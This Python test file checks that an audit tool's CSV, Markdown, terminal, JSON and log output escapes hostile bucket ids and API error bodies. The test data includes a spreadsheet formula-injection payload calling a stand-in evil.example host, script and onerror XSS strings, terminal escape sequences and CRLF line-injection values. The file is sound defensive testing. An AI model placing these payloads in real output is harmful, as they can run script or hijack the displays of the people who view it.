"""Hostile API values in every output: each format escapes what its reader interprets.

The history is committed through the store's own API (a crawl that saw buckets with
hostile ids and access values, and a later one that changed an access value), then the
report is rendered in each format and read back with a real parser where one exists.
"""

from __future__ import annotations

import argparse
import asyncio
import csv
import io
import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from aiohttp import web
from structlog.testing import capture_logs

from nexus_audit import cli
from nexus_audit.audit.report import Report, build_report
from nexus_audit.commands.crawl import crawl_command, format_summary
from nexus_audit.commands.report import report_command
from nexus_audit.config import load_settings
from nexus_audit.domain.escape import CSV_FORMULA_STARTS
from nexus_audit.domain.model import CrawlSummary
from nexus_audit.domain.policy import parse_policy
from nexus_audit.domain.timeutil import Window
from nexus_audit.history.store import Store
from nexus_audit.logs import configure_logging, get_logger
from nexus_audit.output.render import render
from tests.test_queries import PRICES, T0, H
from tests.test_store import bucket, crawl

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open")'
SCRIPT = "<script>alert('x')</script>"
IMG = '<img src=x onerror="alert(1)">'
ESCAPES = "b-esc\x1b]0;pwned\x07\x1b[2J\x9b31m"
CRLF = "b-crlf\r\n# injected heading\n| x | y |"
HOSTILE_IDS = [FORMULA, SCRIPT, IMG, ESCAPES, CRLF, "b|pipe`tick`\\", "-2+3", "@SUM(A1)",
               "\tb-tab", "b-sep\u2028\x85line", "b-bidi\u202etxt.exe"]
HOSTILE_ACCESS = "public\x1b[8m"
#: Characters a terminal acts on: C0 but LF, DEL, C1, and the Unicode line separators.
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202e]")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Report:
    """A report over buckets with hostile ids; one's access changes to a hostile value."""
    store = Store(tmp_path_factory.mktemp("hostile") / "history.duckdb", lock_timeout=2.0)
    store.migrate()
    first = [bucket(i, access="public") for i in HOSTILE_IDS]
    crawl(store, T0, buckets=first)
    crawl(store, T0 + H, buckets=[first[0]._replace(access=HOSTILE_ACCESS), *first[1:]])
    report = build_report(store, Window(T0 - H, T0 + 2 * H), stale_after=H,
                          pending_stale_after=H, max_gap_instances=2 * H,
                          max_gap_buckets=2 * H, pricing=PRICES, now=T0 + 2 * H,
                          policy=parse_policy(b"", "policy.toml"))
    store.close()
    return report


def test_csv_neutralises_formulas_and_reads_back(hostile: Report) -> None:
    """Every text cell starting like a formula carries a leading quote (numbers do not);
    the csv module reads each id back exactly, as the quoted text."""
    text = render(hostile, "csv")
    assert "'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"open\"\")" in text
    rows = list(csv.DictReader(io.StringIO(text)))
    ids = {r["id"] for r in rows if r["section"] == "public_bucket"}
    assert ids == {("'" + i if i.startswith(CSV_FORMULA_STARTS) else i) for i in HOSTILE_IDS}
    for row in rows:
        for cell in row.values():
            if cell and cell.startswith(CSV_FORMULA_STARTS):
                float(cell)  # only a number may start so (none here is negative, but
                # the rule is tested on the cell function too)
    assert {r["new"] for r in rows if r["section"] == "drift"} == {HOSTILE_ACCESS}


def _cells(line: str) -> list[str]:
    """A GFM table row split on its unescaped pipes (a backslash escapes the next char)."""
    assert line.startswith("|"), line
    assert line.endswith("|"), line
    cells, cell, chars = [], "", iter(line[1:-1])
    for ch in chars:
        if ch == "\\":
            cell += ch + next(chars)
        elif ch == "|":
            cells.append(cell)
            cell = ""
        else:
            cell += ch
    return [*cells, cell]


def test_markdown_rows_keep_their_columns_and_carry_no_html(hostile: Report) -> None:
    """No hostile id adds a line, a heading, a column or raw HTML: each table row has its
    header's column count, and the escaped cells read as expected."""
    text = render(hostile, "markdown")
    lines = re.split(r"\r\n?|\n", text)  # CommonMark's line endings
    assert not RAW_CONTROL.search(text)
    headings = [ln for ln in lines if re.match(r" {0,3}#", ln)]  # ATX headings
    assert len(headings) == 9, headings  # the report's own: title and eight sections
    assert not any("injected" in ln for ln in headings)
    assert "<script" not in text
    assert "<img" not in text
    width = 0
    for line in lines:
        if not line.startswith("|"):
            width = 0
            continue
        if width == 0:
            width = len(_cells(line))  # a header row
        assert len(_cells(line)) == width, line
    public = text.split("## Public buckets", 1)[1].split("##", 1)[0]
    assert "| acme | &lt;img src=x onerror=\"alert(1)\"&gt; | public |" in public
    assert ("| acme | b-crlf\\\\r\\\\n# injected heading\\\\n\\| x \\| y \\| | public |"
            in public)
    assert "| acme | b\\|pipe\\`tick\\`\\\\ | public |" in public
    assert "| acme | b-esc\\\\x1b\\]0;pwned\\\\x07\\\\x1b\\[2J\\\\x9b31m | public |" in public


def _column(text: str, header: str, index: int) -> str:
    """Column ``index`` of the table under the header line ``header``, its wrapped pieces
    joined (the spans are read off the dashes under the header)."""
    lines = text.splitlines()
    at = next(n for n, line in enumerate(lines) if line.split() == header.split())
    starts = [m.start() for m in re.finditer(r"-+", lines[at + 1])]
    ends = [m.end() for m in re.finditer(r"-+", lines[at + 1])]
    pieces = []
    for line in lines[at + 2:]:
        if not line.strip() or line.startswith(("  ≤:", "  *:", "…")):
            break
        pieces.append(line[starts[index]:ends[index]].rstrip())
    return "".join(pieces)


def test_table_shows_escapes_not_control_sequences(hostile: Report) -> None:
    """The terminal table holds no control character; each shows as a visible escape, and
    the columns stay aligned (the escaped ids read back whole from their column)."""
    text = render(hostile, "table", max_rows=50)
    assert not RAW_CONTROL.search(text)
    ids = _column(text, "bucket access region size public since", 0)
    for shown in ("b-esc\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m", "b-crlf\\r\\n#",
                  "b-sep\\u2028\\x85line", "b-bidi\\u202etxt.exe", FORMULA, SCRIPT):
        assert shown.replace(" ", "") in ids.replace(" ", ""), shown
    assert "public\\x1b[8m" in _column(text, "bucket access region size public since", 1)


def test_json_and_ocsf_read_back_the_exact_values(hostile: Report) -> None:
    """JSON and OCSF lines carry no raw C1 or line separator, and parse back to the exact
    ids; OCSF stays one event per line for any line splitter."""
    text = render(hostile, "json")
    assert not re.search("[\x7f-\x9f\u2028\u2029]", text)
    assert {b["id"] for b in json.loads(text)["public_buckets"]} == set(HOSTILE_IDS)
    ocsf = render(hostile, "ocsf")
    events = [json.loads(line) for line in ocsf.splitlines()]
    assert hostile.findings is not None
    assert len(events) == len(hostile.findings)
    assert {e["resources"][0]["uid"] for e in events} == set(HOSTILE_IDS)


class _Terminal(io.StringIO):
    """Standard output that says it is a terminal."""

    def isatty(self) -> bool:
        return True


def test_report_to_a_terminal_escapes_every_format(hostile: Report, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """``report --format csv`` written to a terminal shows ESC escaped; to a file, the CSV
    keeps its exact bytes."""
    store = Store(tmp_path / "h.duckdb", lock_timeout=2.0)
    store.migrate()
    crawl(store, T0, buckets=[bucket(ESCAPES, access="public")])
    store.close()
    settings = load_settings({"NEXUS_AUDIT_DB": str(store.path)})
    args = argparse.Namespace(since=(T0 - H).isoformat(), until=(T0 + H).isoformat(),
                              format="csv", account=None, stale_after=None, upload=None,
                              retention="400d")
    tty, plain = _Terminal(), io.StringIO()
    assert report_command(args, settings, out=tty) == 0
    assert report_command(args, settings, out=plain) == 0
    assert "b-esc\\x1b]0;pwned\\x07" in tty.getvalue()
    assert not RAW_CONTROL.search(tty.getvalue())
    assert ESCAPES in plain.getvalue()


def test_cli_error_line_is_one_inert_line(capsys: pytest.CaptureFixture[str]) -> None:
    """``nexus-audit: error: ...`` quoting an API body stays one line, escapes shown."""
    assert cli._fail(f"GET /buckets: HTTP 400: {ESCAPES}\nnexus-audit: ok", 1,
                     hint="try\x1b[2Jagain") == 1
    err = capsys.readouterr().err
    assert err == ("nexus-audit: error: GET /buckets: HTTP 400: "
                   "b-esc\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\nnexus-audit: ok\n"
                   "nexus-audit: hint: try\\x1b[2Jagain\n")


def test_crawl_summary_line_escapes_the_totals_note() -> None:
    """The summary line quotes the API's totals: it stays one line without control bytes."""
    summary = CrawlSummary(account="acme", kinds=("buckets",), started_at=T0,
                           finished_at=T0 + H, status="succeeded", buckets=3, requests=2,
                           total_mismatch="first page 3\r\n\x1b[2Jlast page 4")
    line = format_summary(summary, 250)
    assert line.endswith("(totals differ: first page 3\\r\\n\\x1b[2Jlast page 4)")
    assert not RAW_CONTROL.search(line)


def test_console_logs_escape_values_but_keep_traceback_lines() -> None:
    """On a terminal, a logged API body cannot forge a line or send ESC; a traceback keeps
    its line breaks."""
    out = io.StringIO()
    configure_logging(json=False, stream=out)
    log = get_logger("test")
    log.warning("api.error", body=f"{ESCAPES}\n2026-01-01 [error] forged", id=ESCAPES)
    log.warning(f"bucket {ESCAPES} seen")
    try:
        raise RuntimeError("boom\x1b[2J")
    except RuntimeError:
        log.exception("crashed")
    import structlog

    structlog.reset_defaults()
    text = out.getvalue()
    assert not RAW_CONTROL.search(text)
    first, second, *rest = text.splitlines()
    assert "body='b-esc\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\n2026-01-01 [error] forged'" in first
    assert "id='b-esc\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m'" in first
    assert "bucket b-esc\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m seen" in second
    assert "Traceback (most recent call last):" in rest
    assert "RuntimeError: boom\\x1b[2J" in rest


@pytest.fixture
def hostile_api() -> Iterator[str]:
    """A CloudNexus stand-in on loopback answering every request with 403 and an error
    body full of control sequences; yields its /v2 URL."""
    body = {"error": {"code": "FORBIDDEN\x1b[31m", "request_id": "req-1\r\nnexus-audit: ok",
                      "message": f"denied {ESCAPES}"}}

    async def handler(request: web.Request) -> web.Response:
        return web.json_response(body, status=403)

    loop = asyncio.new_event_loop()
    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", handler)
    runner = web.AppRunner(app)
    loop.run_until_complete(runner.setup())
    site = web.TCPSite(runner, "127.0.0.1", 0)
    loop.run_until_complete(site.start())
    port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{port}/v2"
    finally:
        loop.call_soon_threadsafe(loop.stop)
        thread.join(timeout=10)
        loop.run_until_complete(runner.cleanup())
        loop.close()


def test_crawl_error_line_escapes_the_api_error_body(hostile_api: str, tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]
                                                     ) -> None:
    """A failed crawl's line on standard error quotes the API's code, message and request
    id escaped: one line, no control byte."""
    settings = load_settings({"NEXUS_API_KEY": "nx_test_key_abcdef", "NEXUS_API_URL": hostile_api,
                              "NEXUS_AUDIT_DB": str(tmp_path / "audit.duckdb")})
    with capture_logs():
        assert crawl_command(argparse.Namespace(account=None, kinds="buckets"), settings) == 1
    out = capsys.readouterr()
    errors = out.err.splitlines()
    assert len(errors) == 1, out.err
    assert errors[0].startswith("nexus-audit: error: account default: ")
    assert "b-esc\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m" in errors[0]
    assert not RAW_CONTROL.search(out.err + out.out)
